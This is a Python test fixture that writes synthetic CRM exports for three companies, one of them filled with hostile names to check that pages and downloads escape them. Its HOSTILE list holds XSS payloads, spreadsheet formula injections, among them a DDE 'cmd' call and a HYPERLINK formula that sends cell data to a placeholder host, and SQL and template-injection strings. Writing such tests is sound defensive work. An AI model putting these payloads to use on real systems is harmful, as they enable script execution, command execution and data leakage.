"""Companies at the edges of what pages can show: nothing, one deal, and a crowd with hostile names.

Their files are written by the tests.
"""

from __future__ import annotations

import csv
import datetime as dt
import random
from collections.abc import Iterable, Sequence
from pathlib import Path

import yaml

from tests.from_sql import publish_from_sql
from tests.kpis.companies import Published
from tests.store import made_once
from tests.thorough import IS_THOROUGH

Rows = Iterable[Sequence[object]]
Files = dict[str, tuple[str, Rows]]
"""The exports of a company: of each entity the header and the rows."""

SCRIPT = "<script>alert(1)</script>"
FORMULA = "=cmd()"
HOSTILE = (
    SCRIPT,
    FORMULA,
    '=HYPERLINK("https://numbers.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "javascript:alert(5)",
    'O\'Neill "the" Buyer; drop table kpi_values; --',
    "tab\tand comma, semicolon; and a very ordinary end",
    "שלום עולם \u202eevitcaer",
    "👩🏽‍🚀 𝒢𝑜𝑜𝒹 日本語 e\u0301",
    "\u2028line\u2029separators &amp; &lt;b&gt;",
    "__proto__",
    "constructor",
    "all",
    "(none)",
    "Ωmega " + "very long " * 29 + "end",
)
"""Names that break a page, a download or a doc which takes them for more than text."""

COMPANY = {
    # Money without decimals; one currency for all, so that the models are compiled once.
    "currency": "JPY",
    "timezone": "Europe/Berlin",
    "as_of": "2026-05-20 18:00:00",
}
TODAY = dt.datetime(2026, 5, 20, 12)
STAGES = (
    ("Talk", 1, "open", 0.2),
    ("Offer", 2, "open", 0.6),
    ("Won", 3, "won", 1),
    ("Lost", 4, "lost", 0),
)
USERS = "source_id,name,role,team,region,segment,hired_on"
STAGE_COLUMNS = "stage,stage_order,status,probability"
DEALS = (
    "source_id,name,account_id,owner_id,stage,amount,created_at,close_date,closed_at,lead_source,product,"
    "region,segment,loss_reason"
)
ONE_REP = [("ann", "Ann Lee", "rep", "North", "Bavaria", "Enterprise", "2024-01-01")]


def empty() -> Published:
    """A company with people and stages, and no deal as yet."""
    return _published(
        "empty",
        {"name": "Empty"},
        {
            "users": (USERS, ONE_REP),
            "pipeline_stages": (STAGE_COLUMNS, STAGES),
            "opportunities": (DEALS, []),
        },
    )


def one_deal() -> Published:
    """A company whose only deal was won; its words are German."""
    deal = (
        *("first", "The first one", "", "ann", "Won", 1234567, "2026-02-02 10:00:00", "2026-04-15"),
        *("2026-04-15 10:00:00", "inbound", "Robot arm", "", "", ""),
    )
    return _published(
        "one_deal",
        {"name": "One Deal", "locale": "de-DE"},
        {
            "users": (USERS, ONE_REP),
            "pipeline_stages": (STAGE_COLUMNS, STAGES),
            "opportunities": (DEALS, [deal]),
        },
    )


REPS = 3000 if IS_THOROUGH else 300
ACCOUNTS = REPS // 3
OF_HOSTILE = REPS // 5
"""Deals of people with hostile names: the largest."""


def crowd() -> Published:
    """Many reps who sell for two years where people, deals and all else have hostile names.

    They are 3,000 at length. The records of hostile names are the first of their kind by number
    and by money.
    """
    return _published("crowd", {"name": f"Crowd & Söhne {SCRIPT}"}, _crowd(random.Random(16)))


def _crowd(chance: random.Random) -> Files:
    def often(names: Sequence[str]) -> str:
        """One of many names; an early one more often."""
        return names[min(int(chance.expovariate(4 / len(names))), len(names) - 1)]

    def moment(day: dt.datetime) -> str:
        return day.isoformat(sep=" ", timespec="seconds")

    regions = [*HOSTILE, *(f"Region {n}" for n in range(5))]
    teams = [*HOSTILE, *(f"Team {n}" for n in range(40))]
    segments = [*HOSTILE[:3], "Enterprise", "Commercial"]
    products = [*HOSTILE, *(f"Product {n}" for n in range(10))]
    names = [*HOSTILE, *(f"Rep {n}" for n in range(REPS))][:REPS]
    reasons = [*HOSTILE, "price"]
    users = [
        (
            f"u{n}",
            name,
            "rep",
            chance.choice(teams),
            chance.choice(regions),
            chance.choice(segments),
            "2024-01-01",
        )
        for n, name in enumerate(names)
    ]
    accounts = [
        (
            f"a{n}",
            f"{chance.choice(HOSTILE)} {n}" if n < REPS // 15 else f"Account {n}",
            chance.choice(segments),
        )
        for n in range(ACCOUNTS)
    ]
    deals: list[Sequence[object]] = []
    changes: list[Sequence[object]] = []
    for n in range(2 * REPS):
        owner = n % len(HOSTILE) if n < OF_HOSTILE else n % REPS
        created = TODAY - dt.timedelta(days=chance.randrange(1, 720), minutes=n % 300)
        offered = created + dt.timedelta(days=chance.randrange(1, 60))
        closed = offered + dt.timedelta(days=chance.randrange(1, 60))
        stage = (
            "Talk"
            if offered > TODAY
            else "Offer"
            if closed > TODAY
            else chance.choice(("Won", "Lost"))
        )
        is_closed = stage in ("Won", "Lost")
        name = HOSTILE[n % len(HOSTILE)] if n < OF_HOSTILE else f"Deal {n}"
        amount = f"{chance.uniform(100, 20_000) * (20 if n < OF_HOSTILE else 1):.2f}"
        deals.append(
            (
                *(f"d{n}", name, f"a{n % ACCOUNTS}", f"u{owner}", stage, amount, moment(created)),
                *(
                    closed.date(),
                    moment(closed) if is_closed else "",
                    often(HOSTILE),
                    often(products),
                ),
                *(chance.choice(regions), chance.choice(segments)),
                often(reasons) if stage == "Lost" else "",
            )
        )
        if stage != "Talk":
            changes.append(("opportunities", f"d{n}", "stage", "Talk", "Offer", moment(offered)))
        if is_closed:
            changes.append(("opportunities", f"d{n}", "stage", "Offer", stage, moment(closed)))
    leads = [
        (
            *(f"l{n}", moment(TODAY - dt.timedelta(days=n % 700, minutes=n)), f"u{n % REPS}"),
            *(often(HOSTILE), f"c{n % len(HOSTILE)}", often(HOSTILE)),
        )
        for n in range(REPS // 2)
    ]
    campaigns = [
        (f"c{n}", name, name, name, "2024-06-01", "2026-12-31") for n, name in enumerate(HOSTILE)
    ]
    spend = [
        (name, (TODAY - dt.timedelta(days=7 * week)).date(), f"c{n}", f"{100 + n}.25", 1000, 10)
        for n, name in enumerate(HOSTILE)
        for week in range(60)
    ]
    customers = [(f"k{n}", f"{name} {n}", f"a{n}") for n, name in enumerate(HOSTILE)]
    subscriptions = [
        (
            f"s{n}",
            f"k{n}",
            "active",
            moment(TODAY - dt.timedelta(days=30 * n + 40)),
            f"{100 + n}.50",
            name,
        )
        for n, name in enumerate(HOSTILE)
    ]
    invoices = [
        (
            f"i{n}",
            f"k{n}",
            moment(TODAY - dt.timedelta(days=20 * n + 5)),
            moment(TODAY - dt.timedelta(days=15 * n)),
            "open",
            f"{1000 + n}.99",
        )
        for n in range(len(HOSTILE))
    ]
    activities = [
        (
            f"t{n}",
            chance.choice(("call", "email", "meeting")),
            "out",
            moment(TODAY - dt.timedelta(days=n % 360, minutes=n)),
            f"u{n % (REPS // 7)}",
            f"d{n % REPS}",
        )
        for n in range(REPS * 4 // 3)
    ]
    return {
        "users": (USERS, users),
        "accounts": ("source_id,name,segment", accounts),
        "pipeline_stages": (STAGE_COLUMNS, STAGES),
        "opportunities": (DEALS, deals),
        "field_changes": ("entity,entity_id,field,old_value,new_value,changed_at", changes),
        "leads": ("source_id,created_at,owner_id,channel,campaign_id,status", leads),
        "campaigns": ("source_id,name,channel,platform,started_on,ended_on", campaigns),
        "spend_daily": ("platform,day,campaign_id,spend,impressions,clicks", spend),
        "customers": ("source_id,name,account_id", customers),
        "subscriptions": ("source_id,customer_id,status,started_at,mrr,plan", subscriptions),
        "invoices": ("source_id,customer_id,issued_at,due_at,status,total", invoices),
        "activities": ("source_id,type,direction,occurred_at,owner_id,opportunity_id", activities),
    }


def _published(kind: str, company: dict[str, object], files: Files) -> Published:
    """What is published of a company of files; not again while it and the code are the same."""

    def make(folder: Path) -> None:
        _write(folder / kind, company, files)
        publish_from_sql(folder / kind / "company.yml", folder / "data")

    folder = made_once(f"eyes_{kind}", make, Path(__file__), str(REPS))
    [data] = [one for one in (folder / "data").iterdir() if (one / "published").exists()]
    return Published(folder / kind / "company.yml", data)


def _write(folder: Path, company: dict[str, object], files: Files) -> None:
    """The company's file, and its exports beside it."""
    exports = folder / "exports"
    exports.mkdir(parents=True)
    for entity, (header, rows) in files.items():
        with (exports / f"{entity}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(header.split(","))
            writer.writerows(rows)
    source = {
        "name": "crm",
        "type": "files",
        "path": "exports",
        "entities": {entity: {"from": f"{entity}.csv"} for entity in files},
    }
    said = COMPANY | company | {"sources": [source]}
    (folder / "company.yml").write_text(yaml.safe_dump(said), encoding="utf-8")
